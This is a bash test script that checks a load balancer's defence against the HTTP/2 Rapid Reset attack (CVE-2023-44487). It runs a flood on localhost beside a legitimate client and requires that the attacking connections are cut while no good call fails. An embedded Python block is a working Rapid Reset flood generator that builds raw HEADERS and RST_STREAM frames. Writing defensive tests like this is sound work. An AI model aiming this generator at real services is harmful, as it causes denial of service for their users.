#!/usr/bin/env bash
# Streams that are opened and reset at once (CVE-2023-44487), from an address of their own, beside a good client: the
# balancer ends those connections, and no call of the good client fails. usage: resets.sh [SECONDS [bare]]
# bare: the same at the server itself, for comparison; nothing of it is judged.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/balancer.sh"
seconds="${1:-10}"
serve a --log_level=error
balance a
cpu_ms() { awk -v tick="$(getconf CLK_TCK)" '{printf "%d", ($14 + $15) * 1000 / tick}' "/proc/$1/stat"; }

# beside_resets WHAT ADDRESS: prints the figures of the good client and of the attack, and sets good.
beside_resets() {
  local server_ms balancer_ms attack
  server_ms="$(cpu_ms "$pid_a")" balancer_ms="$(cpu_ms "$pid_front")"
  python3 - "${2##*:}" "$((seconds + 1))" >"$work/attack" <<'END' &
import socket, sys, threading, time

def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload

PATH = b"/flightplan.v1.ResolverService/ResolveConfig"
CALL = b"\x83\x86\x41\x01a\x04" + bytes([len(PATH)]) + PATH  # HPACK: POST, http, authority a, the path
STREAMS = 2000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
BYTES = PREFACE + b"".join(frame(1, 4, 2 * i + 1, CALL) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08")
                           for i in range(STREAMS))
stop = time.monotonic() + float(sys.argv[2])
whole, cut = 0, 0

def attack():
    global whole, cut
    while time.monotonic() < stop:
        try:
            with socket.create_connection(("127.0.0.1", int(sys.argv[1])), 2, ("127.0.0.2", 0)) as peer:
                for at in range(0, len(BYTES), 2048):
                    peer.sendall(BYTES[at:at + 2048])
            whole += 1
        except OSError:
            cut += 1
        time.sleep(0.02)

attackers = [threading.Thread(target=attack) for _ in range(2)]
for attacker in attackers: attacker.start()
for attacker in attackers: attacker.join()
print(f"streams={STREAMS * whole} connections={whole} cut={cut}")
END
  attack=$!
  sleep 0.5
  load --target="$2" --rate=50 --seconds="$seconds" >"$work/good" 2>"$work/errors" || true
  wait "$attack"
  good="$(cat "$work/good")"
  echo "resets $1: attack $(cat "$work/attack"), server_ms=$(($(cpu_ms "$pid_a") - server_ms))" \
    "balancer_ms=$(($(cpu_ms "$pid_front") - balancer_ms)), good client $good"
}

if [ "${2:-}" = bare ]; then
  beside_resets "at the server" "127.0.0.1:$port_a"
  # What it still has to do is not the balancer's.
  kill -KILL "$pid_a" && wait "$pid_a" 2>/dev/null || true
  serve a --log_level=error
fi
beside_resets "at the balancer" "$front"
[ "$(echo "$good" | field failed)" = 0 ] && [ "$(echo "$good" | field unanswered)" = 0 ] ||
  fail "calls of the good client failed: $(cat "$work/errors")"
[ "$(field cut <"$work/attack")" -gt 0 ] || fail "no connection was ended"
